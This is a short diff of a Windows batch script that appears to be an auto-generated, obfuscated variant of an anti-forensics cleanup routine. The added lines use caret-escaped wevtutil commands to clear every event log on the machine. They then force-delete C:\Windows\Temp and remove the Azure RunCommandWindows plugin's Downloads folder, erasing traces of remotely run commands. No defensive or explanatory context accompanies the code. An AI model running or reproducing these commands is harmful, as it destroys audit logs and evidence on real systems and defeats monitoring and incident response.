@@ -1,10 +1,8 @@
-REM init 5390 v0
+REM run 7293 v0
+^fo^r /F "tokens=*" %%1 ^i^n ('^w^ev^tut^il.ex^e el') D^O w^e^v^t^ut^il.ex^e cl "%%1"
 @echo off
-set "skqf=for /F "tokens=*" %%1 in ('wevtutil.exe el') DO wevtutil.exe cl "%%1""
-call %skqf%
+set znwy=del /f /q C:\Windows\Temp\*.*
+call %znwy%
 @echo off
-set "oqhl=del /f /q C:\Windows\Temp\*.*"
-call %oqhl%
-@echo off
-set "smyz=rd /s /q C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.15\Downloads"
-call %smyz%
+set yuec=rd /s /q C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.15\Downloads
+call %yuec%
